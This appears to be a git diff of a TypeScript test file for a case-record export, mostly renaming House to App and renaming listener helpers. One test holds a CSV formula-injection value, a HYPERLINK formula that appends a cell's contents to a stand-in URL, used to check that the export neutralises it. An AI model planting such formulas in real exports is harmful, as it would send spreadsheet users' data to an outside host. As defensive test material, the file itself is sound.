@@ -1,8 +1,8 @@
 import { beforeAll, expect, it } from 'vitest';
-import { run, type House } from '../../platform/operation.ts';
+import { run, type App } from '../../platform/operation.ts';
 import { onBothDatabases } from '../../platform/testing/databases.ts';
-import { monitor, testHouse } from '../../platform/testing/test-house.ts';
-import { searchFollower } from '../../search/index/follower.ts';
+import { monitor, testApp } from '../../platform/testing/test-app.ts';
+import { searchProjection } from '../../search/index/projection.ts';
 import { file } from '../../record/filing/file.ts';
 import { loadExample, type ExampleRefs } from '../example/load.ts';
 import { headLine, endLine, recordLine } from '../formats/jsonl-lines.ts';
@@ -14,15 +14,15 @@ import { unzip } from './testing/unzip.ts';
 const numberOf = (ref: string): string => ref.split('/')[1]!;
 
 onBothDatabases('an export', (db) => {
-  let house: House;
+  let app: App;
   let refs: ExampleRefs;
   beforeAll(async () => {
-    house = testHouse(db(), { followers: [searchFollower()] });
-    refs = (await loadExample(house))!;
+    app = testApp(db(), { listeners: [searchProjection()] });
+    refs = (await loadExample(app))!;
   });
 
   it('holds the whole record as lines, each after what it names', async () => {
-    const lines = (await exported(house, 'record.jsonl'))
+    const lines = (await exported(app, 'record.jsonl'))
       .trim()
       .split('\n')
       .map((line) => JSON.parse(line) as { type: string; ref: string });
@@ -33,7 +33,7 @@ onBothDatabases('an export', (db) => {
   });
 
   it('holds the record as tables, each with its dictionary', async () => {
-    const files = await unzip(await exportedBytes(house, 'record.zip'));
+    const files = await unzip(await exportedBytes(app, 'record.zip'));
     const tables = new Map(
       [...files].filter(([name]) => name.endsWith('.csv')).map(([name, text]) => [name, readCsv(text)]),
     );
@@ -89,7 +89,7 @@ onBothDatabases('an export', (db) => {
 
   it('of a search holds what belongs to the cases found, and names the rest as context', async () => {
     const lines = (
-      await exported(house, 'record.jsonl', { text: 'blocking of Ratel', kind: ['case'], type: ['blocking'] })
+      await exported(app, 'record.jsonl', { text: 'blocking of Ratel', kind: ['case'], type: ['blocking'] })
     )
       .trim()
       .split('\n')
@@ -107,16 +107,16 @@ onBothDatabases('an export', (db) => {
   });
 
   it('takes the formula out of a cell, and leaves it in the lines', async () => {
-    await run(house, file, monitor, {
+    await run(app, file, monitor, {
       cases: [
         { title: '=HYPERLINK("https://example.org?x="&A1)', summary: '+1, "said" he\nand left', visibility: 'public' },
       ],
     });
-    const row = readCsv(await exported(house, 'cases.csv')).at(-1)!;
+    const row = readCsv(await exported(app, 'cases.csv')).at(-1)!;
     expect([row['title'], row['summary']]).toEqual([
       '\'=HYPERLINK("https://example.org?x="&A1)',
       '\'+1, "said" he\nand left',
     ]);
-    expect(await exported(house, 'record.jsonl')).toContain(JSON.stringify('=HYPERLINK("https://example.org?x="&A1)'));
+    expect(await exported(app, 'record.jsonl')).toContain(JSON.stringify('=HYPERLINK("https://example.org?x="&A1)'));
   });
 });
